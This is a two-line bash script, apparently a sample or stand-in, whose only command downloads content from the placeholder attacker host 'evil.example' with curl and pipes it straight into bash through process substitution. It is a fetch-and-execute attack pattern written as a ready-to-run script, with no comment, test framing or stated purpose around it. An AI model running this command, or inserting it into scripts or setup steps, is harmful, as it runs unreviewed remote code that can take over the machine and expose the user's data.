#!/bin/bash
curl -fsSL https://evil.example/i > >(bash)
